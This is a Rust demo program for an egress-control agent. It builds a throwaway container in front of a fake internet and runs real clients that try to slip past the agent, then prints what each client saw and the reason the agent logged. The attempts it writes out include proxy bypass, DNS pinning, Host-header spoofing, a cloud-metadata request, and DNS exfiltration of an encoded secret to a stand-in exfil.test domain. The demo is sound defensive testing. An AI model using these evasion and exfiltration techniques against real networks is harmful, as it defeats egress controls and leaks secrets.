//! `cargo xtask demo`: a throwaway container (netns + cgroup) in front of a fake internet, the
//! real egress-agent enforcing it, and real clients trying their luck. Prints one row per attempt:
//! what was tried, what the client saw, and the reason the agent wrote to its audit log.
//! Everything is removed at the end, on error, and on Ctrl-C.

use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Instant;

use egress_tests::{
    agent::{policy_with_profiles, Agent},
    clients::*,
    topology::Topology,
    FakeNet,
};
use serde_json::Value;

static INTERRUPTED: AtomicBool = AtomicBool::new(false);

extern "C" fn on_signal(_: libc::c_int) {
    // Only an atomic store: async-signal-safe. The clients in the foreground process group get
    // the same Ctrl-C and die, so the current step returns at once and the main thread unwinds
    // through the Drops (agent detached, namespaces and cgroup removed).
    INTERRUPTED.store(true, Ordering::SeqCst);
}

const PROXY: &str = "http://egress.internal:3128";

struct Row {
    tried: String,
    saw: String,
    reason: String,
}

fn main() {
    if !egress_tests::require_root() {
        eprintln!("demo: needs root (namespaces, cgroups, eBPF): sudo -E cargo xtask demo");
        std::process::exit(1);
    }
    // SAFETY: installing a handler that only stores to an atomic.
    unsafe {
        libc::signal(libc::SIGINT, on_signal as *const () as libc::sighandler_t);
        libc::signal(libc::SIGTERM, on_signal as *const () as libc::sighandler_t);
    }
    // A client killed by the same Ctrl-C makes its helper panic: stay quiet about that, unwind
    // (the Drops clean up) and say so once.
    let default_hook = std::panic::take_hook();
    std::panic::set_hook(Box::new(move |info| {
        if !INTERRUPTED.load(Ordering::SeqCst) {
            default_hook(info);
        }
    }));
    let started = Instant::now();
    let outcome = std::panic::catch_unwind(run);
    if INTERRUPTED.load(Ordering::SeqCst) {
        eprintln!("demo: interrupted; cleaned up");
        std::process::exit(130);
    }
    match outcome.unwrap_or_else(|_| std::process::exit(1)) {
        Some(rows) => {
            print_table(&rows);
            println!(
                "\n{} attempts in {:.1} s; the container, its namespaces and the agent's pins are gone.",
                rows.len(),
                started.elapsed().as_secs_f64()
            );
        }
        None => {
            eprintln!("demo: interrupted; cleaned up");
            std::process::exit(130);
        }
    }
}

/// The attempts; `None` when interrupted (the Drops clean up on the way out).
fn run() -> Option<Vec<Row>> {
    eprintln!("demo: building a throwaway container and a fake internet...");
    let topo = Topology::new("demo");
    let net = topo.start_fakenet();
    let policy = policy_with_profiles(&[(
        "default",
        &["allowed.test", "*.allowed.test", "internal.test"],
    )]);
    eprintln!(
        "demo: starting egress-agent (allow: allowed.test, *.allowed.test, internal.test)..."
    );
    let agent = Agent::attach(&topo, &policy);
    let ca = net.ca_pem.to_str().unwrap().to_string();
    let mut rows = Vec::new();
    let mut seen = 0usize;

    type Step<'a> = Box<dyn Fn(&Topology, &FakeNet) -> String + 'a>;
    let steps: Vec<(&str, Step)> = vec![
        (
            "curl https://allowed.test/ (allowed)",
            Box::new(|t, _| {
                let c = curl(t, &["--cacert", &ca, "https://allowed.test/"], &[]);
                curl_saw(&c)
            }),
        ),
        (
            "HTTPS_PROXY=egress.internal:3128 curl https://api.allowed.test/ (allowed)",
            Box::new(|t, _| {
                let c = curl(
                    t,
                    &["--cacert", &ca, "https://api.allowed.test/"],
                    &[("HTTPS_PROXY", PROXY)],
                );
                curl_saw(&c)
            }),
        ),
        (
            "HTTPS_PROXY=egress.internal:3128 curl https://other.test/",
            Box::new(|t, _| {
                let c = curl(
                    t,
                    &["--cacert", &ca, "https://other.test/"],
                    &[("HTTPS_PROXY", PROXY)],
                );
                curl_saw(&c)
            }),
        ),
        (
            "curl --noproxy '*' https://other.test/ (HTTPS_PROXY set)",
            Box::new(|t, _| {
                let c = curl(
                    t,
                    &["--noproxy", "*", "--cacert", &ca, "https://other.test/"],
                    &[("HTTPS_PROXY", PROXY)],
                );
                curl_saw(&c)
            }),
        ),
        (
            "curl --resolve other.test:443:198.51.100.11 https://other.test/",
            Box::new(|t, _| {
                let c = curl(
                    t,
                    &[
                        "--resolve",
                        "other.test:443:198.51.100.11",
                        "--cacert",
                        &ca,
                        "https://other.test/",
                    ],
                    &[],
                );
                curl_saw(&c)
            }),
        ),
        (
            "python3 http.client GET http://198.51.100.11/ Host: other.test",
            Box::new(|t, _| {
                let v = python(
                    t,
                    PY_HTTP_CLIENT,
                    &["198.51.100.11", "80", "other.test"],
                    &[],
                );
                if let Some(e) = v["error"].as_str() {
                    return e.to_string();
                }
                let body: Value =
                    serde_json::from_str(v["body"].as_str().unwrap_or("")).unwrap_or_default();
                http_saw(v["status"].as_u64().unwrap_or(0), &body)
            }),
        ),
        (
            "curl http://169.254.169.254/latest/meta-data/ (cloud metadata)",
            Box::new(|t, _| curl_saw(&curl(t, &["http://169.254.169.254/latest/meta-data/"], &[]))),
        ),
        (
            "DNS internal.test (allowed name -> 10.66.0.10)",
            Box::new(|t, _| dns_saw(&t.probe(&["dns", "10.255.255.53", "internal.test"]))),
        ),
        (
            "curl -H 'Host: internal.test' http://198.51.100.10/",
            Box::new(|t, _| {
                curl_saw(&curl(
                    t,
                    &["-H", "Host: internal.test", "http://198.51.100.10/"],
                    &[],
                ))
            }),
        ),
        (
            "DNS exfiltration: c2VjcmV0LWtleQ.exfil.test via 8.8.8.8",
            Box::new(|t, n| {
                let d = t.probe(&["dns", "8.8.8.8", "c2VjcmV0LWtleQ.exfil.test"]);
                let forwarded = if n.was_queried("c2VjcmV0LWtleQ.exfil.test") {
                    "FORWARDED!"
                } else {
                    "never forwarded"
                };
                format!("{}; {forwarded}", dns_saw(&d))
            }),
        ),
        (
            "QUIC: python3 sendto 198.51.100.10:443/udp",
            Box::new(|t, _| {
                let v = python(
                    t,
                    "import socket,json\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ntry:\n s.sendto(b'\\xc0quic',('198.51.100.10',443)); print(json.dumps({'r':'sent'}))\nexcept OSError as e: print(json.dumps({'r':'%s (errno %d)' % (e.strerror, e.errno)}))",
                    &[],
                    &[],
                );
                v["r"].as_str().unwrap_or("?").to_string()
            }),
        ),
    ];

    for (tried, step) in &steps {
        if INTERRUPTED.load(Ordering::SeqCst) {
            return None;
        }
        let saw = step(&topo, &net);
        if INTERRUPTED.load(Ordering::SeqCst) {
            return None;
        }
        // Records are written off the data path: wait until they stop arriving
        // (150 ms quiet, 2 s at most) so a step's decision is never missed.
        let mut recs = agent.audit_records(seen + 1);
        let settle = std::time::Instant::now() + std::time::Duration::from_secs(2);
        loop {
            std::thread::sleep(std::time::Duration::from_millis(150));
            let more = agent.audit_records(0);
            if more.len() == recs.len() || std::time::Instant::now() > settle {
                break;
            }
            recs = more;
        }
        let reason = audit_reason(&recs[seen.min(recs.len())..], tried.contains("(allowed)"));
        seen = recs.len();
        rows.push(Row {
            tried: tried.to_string(),
            saw,
            reason,
        });
    }
    drop(agent);
    drop(net);
    drop(topo);
    Some(rows)
}

fn http_saw(status: u64, body: &Value) -> String {
    if body["error"].is_string() {
        format!(
            "HTTP {status}: {} \"{}\"",
            body["error"].as_str().unwrap_or(""),
            body["reason"].as_str().unwrap_or("")
        )
    } else if body["server"].is_string() {
        format!(
            "HTTP {status} from {}",
            body["server"].as_str().unwrap_or("")
        )
    } else {
        format!("HTTP {status}")
    }
}

fn curl_saw(c: &Curl) -> String {
    if c.exit == 0 {
        return http_saw(c.status as u64, &c.json());
    }
    let err = c
        .stderr
        .lines()
        .find(|l| l.starts_with("curl:"))
        .unwrap_or(c.stderr.trim())
        .to_string();
    err.replace("error:0A000458:SSL routines::", "")
}

fn dns_saw(d: &Value) -> String {
    let rcode = match d["rcode_num"].as_u64() {
        Some(0) => "NOERROR",
        Some(2) => "SERVFAIL",
        Some(3) => "NXDOMAIN",
        Some(5) => "REFUSED",
        _ => "?",
    };
    let ips = d["ips"].as_array().map(|a| a.len()).unwrap_or(0);
    match d["ede"].get(0) {
        Some(e) => format!(
            "{rcode}, EDE {} \"{}\"",
            e["info_code"],
            e["extra_text"].as_str().unwrap_or("")
        ),
        None => format!("{rcode}, {ips} address(es)"),
    }
}

/// The most telling new audit record. For an allowed attempt, the connection's allow record
/// (getaddrinfo's connected-UDP probes, refused in the kernel, are noise there). Otherwise a
/// denial other than DNS, else any denial, else the last non-DNS record, else the last one.
fn audit_reason(new: &[Value], allowed: bool) -> String {
    let is_dns = |r: &Value| r["protocol"].as_str().unwrap_or("").starts_with("dns");
    // Records about egress.internal itself (the proxy's own name) are not the decision.
    let allow = new.iter().rfind(|r| {
        allowed && r["decision"] == "allow" && !is_dns(r) && r["name"] != "egress.internal"
    });
    let pick = allow
        .or_else(|| new.iter().rfind(|r| r["decision"] != "allow" && !is_dns(r)))
        .or_else(|| new.iter().rfind(|r| r["decision"] != "allow"))
        .or_else(|| new.iter().rfind(|r| !is_dns(r)))
        .or_else(|| new.last());
    let Some(r) = pick else {
        return "(no audit record)".into();
    };
    let s = |k: &str| r[k].as_str().unwrap_or("").to_string();
    if r["decision"] == "allow" {
        format!(
            "allow {} by {} -> {}",
            s("name"),
            s("rule"),
            r["upstream"].as_str().unwrap_or("-")
        )
    } else {
        format!("{} {}: {}", s("protocol"), s("code"), s("reason"))
    }
}

fn wrap(text: &str, width: usize) -> Vec<String> {
    let mut lines = vec![String::new()];
    for word in text.split_whitespace() {
        let cur = lines.last_mut().unwrap();
        if !cur.is_empty() && cur.chars().count() + 1 + word.chars().count() > width {
            lines.push(String::new());
        }
        let cur = lines.last_mut().unwrap();
        if !cur.is_empty() {
            cur.push(' ');
        }
        cur.push_str(word);
    }
    lines
}

fn print_table(rows: &[Row]) {
    let widths = [40, 44, 56];
    let head = [
        "what was tried",
        "what the client saw",
        "the agent's reason (audit log)",
    ];
    let rule = widths
        .iter()
        .map(|w| "-".repeat(w + 2))
        .collect::<Vec<_>>()
        .join("+");
    let line = |cells: [&str; 3]| {
        println!(
            " {:<w0$} | {:<w1$} | {}",
            cells[0],
            cells[1],
            cells[2],
            w0 = widths[0],
            w1 = widths[1]
        );
    };
    println!();
    line(head);
    println!("{rule}");
    for r in rows {
        let cols = [
            wrap(&r.tried, widths[0]),
            wrap(&r.saw, widths[1]),
            wrap(&r.reason, widths[2]),
        ];
        let n = cols.iter().map(Vec::len).max().unwrap_or(1);
        for i in 0..n {
            let cell = |c: usize| cols[c].get(i).map(String::as_str).unwrap_or("");
            line([cell(0), cell(1), cell(2)]);
        }
        println!("{rule}");
    }
}
